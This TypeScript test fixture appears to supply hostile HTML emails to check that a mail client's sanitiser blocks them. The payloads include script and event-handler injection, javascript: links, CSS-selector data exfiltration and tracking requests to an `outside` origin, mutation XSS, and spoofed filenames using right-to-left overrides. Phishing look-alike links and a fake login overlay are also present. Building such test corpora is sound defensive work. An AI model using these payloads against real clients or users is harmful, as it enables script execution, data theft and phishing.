import type { Delivery } from './inbox'

/** A message that tries something; `subject` names it. */
export interface HostileMessage extends Delivery {
  readonly subject: string
}

const MB = 1_000_000

/**
 * What messages try: to run something, to fetch something from `outside` (an origin), to lead somewhere, to look like what
 * they are not, to be too much. What runs calls `top.ran`.
 */
export function hostileMessages(outside: string): readonly HostileMessage[] {
  const run = `top.ran=1;fetch('${outside}/ran')`
  const html = (subject: string, body: string): HostileMessage => ({ subject, text: null, html: body })
  return [
    html('script', `<script>${run}</script><p>text</p>`),
    html(
      'script from outside',
      `<script src="${outside}/a.js"></script><script type=module src="${outside}/m.js"></script>`,
    ),
    html(
      'picture with a handler',
      `<img src="${outside}/x" onerror="${run}" onload="${run}"><img src=x onerror=${run}>`,
    ),
    html(
      'svg',
      `<svg onload="${run}"><script>${run}</script><image href="${outside}/i.svg"/><use href="${outside}/u#a"/></svg>`,
    ),
    html(
      'form',
      `<form action="${outside}/form" method=post><input name=a value=b autofocus onfocus="${run}"><button>Go</button></form>`,
    ),
    html(
      'button that is a form',
      `<button formaction="javascript:${run}">Go</button><input type=image src="${outside}/b" formaction="${outside}/f">`,
    ),
    html('tracker', `<img src="${outside}/pixel?id=482913" width=1 height=1 alt="">`),
    html(
      'picture sets',
      `<picture><source srcset="${outside}/s 1x"><img srcset="${outside}/t 2x" loading=eager></picture>`,
    ),
    html(
      'style from outside',
      `<style>@import url("${outside}/a.css"); body{background:url(${outside}/bg)}</style><p>text</p>`,
    ),
    html(
      'style attribute',
      `<div style="background:url(${outside}/d);background-image:image-set('${outside}/e' 1x);list-style:url(${outside}/l);cursor:url(${outside}/c),auto">text</div>`,
    ),
    html(
      'font',
      `<style>@font-face{font-family:x;src:url(${outside}/f?A);unicode-range:U+0041}</style><p style="font-family:x">AAA</p>`,
    ),
    html(
      'css exfiltration',
      `<style>input[value^="4"]{background:url(${outside}/4)}:has([value="1"]){background:url(${outside}/1)}</style><input value="482913">`,
    ),
    html('meta refresh', `<meta http-equiv="refresh" content="0;url=${outside}/refresh"><p>text</p>`),
    html('base', `<base href="${outside}/"><img src="relative.png"><a href="path">link</a>`),
    html(
      'links',
      `<link rel=stylesheet href="${outside}/l.css"><link rel=prefetch href="${outside}/p"><link rel=preconnect href="${outside}"><link rel=dns-prefetch href="//tracker.example"><link rel=icon href="${outside}/i">`,
    ),
    html(
      'frames',
      `<iframe src="${outside}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src="${outside}/f"></frameset>`,
    ),
    html(
      'objects',
      `<object data="${outside}/o"></object><embed src="${outside}/e"><applet code="${outside}/a"></applet>`,
    ),
    html(
      'sound and film',
      `<video src="${outside}/v" poster="${outside}/p" autoplay></video><audio src="${outside}/a" autoplay></audio>`,
    ),
    html(
      'javascript links',
      `<a href="javascript:${run}">here</a> <a href=" java&#10;script:${run}">or here</a>`,
    ),
    html(
      'links that open',
      `<a href="${outside}/blank" target=_blank>a</a><a href="${outside}/top" target=_top>b</a><a href="app://mailroom/index.html" target=_top>c</a><a ping="${outside}/ping" href="https://shop.example/">d</a>`,
    ),
    html(
      'old attributes',
      `<body background="${outside}/bg"><table background="${outside}/t"><tr><td background="${outside}/td">x</td></tr></table>`,
    ),
    html('broken out', `</style></body></html></iframe></textarea><script>${run}</script><p>text`),
    html(
      'nonce',
      `<script nonce="__NONCE__">${run}</script><style nonce="__NONCE__">p{background:url(${outside}/n)}</style><p>text</p>`,
    ),
    html(
      'foreign content',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${outside}/m onerror=${run}&gt;"></math>`,
    ),
    html('never ends', `<div title="<p>${'<a href="'.repeat(20_000)}<!-- `),
    html('deep', '<div><table><tr><td>'.repeat(30_000)),
    {
      subject: 'five megabytes',
      text: 'word '.repeat(MB),
      html: `<p style="color:red">${'word <b>bold</b> '.repeat(MB / 4)}</p>`,
    },
    {
      subject: '=?utf-8?q?broken_=C3=28_text?= =?x-unknown?b?!!!!?=',
      text: `--boundary\r\nContent-Type: text/plain; charset=x\r\n\r\n=E2=82 \u0000\u0007\u001b[31m \ud800 ${'\u0301'.repeat(5_000)}`,
      html: '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>\ud800</p>',
      attachments:
        '[{"filename":"../../../etc/passwd\u202Egpj.exe","mimeType":"text/html","size":-1}, null, 7]',
    },
    {
      subject: 'right to left \u202Egnp.exe',
      fromName: '\u202E\u2066moc.knab',
      text: 'Invoice \u202Egpj.exe\u202C is attached. شكرا جزيلا لك',
      html: '<p dir="rtl">\u202Eexe.gpj</p>',
    },
    {
      subject: 'look-alike links: please confirm your account',
      text: 'Confirm: https://www.аррӏе.com/confirm?token=1\nhttps://apple.com@shop.example/\nhttp://plain.example/',
      html: '<a href="https://login.evil.example/confirm">https://www.bank.example/login</a> <a href="data:text/html,x">d</a> <a href="file:///etc/passwd">f</a>',
    },
    {
      subject: '<img src=x onerror=top.ran=1>',
      fromName: '<script>top.ran=1</script>',
      from: { address: 'a@b.example', name: '"><svg onload=top.ran=1>' },
      text: '<script>top.ran=1</script> {{constructor.constructor("top.ran=1")()}}',
      html: `<p style="position:fixed;inset:0;z-index:9999;background:#fff">Your session has ended. <a href="${outside}/login">Log in</a></p>`,
    },
  ]
}
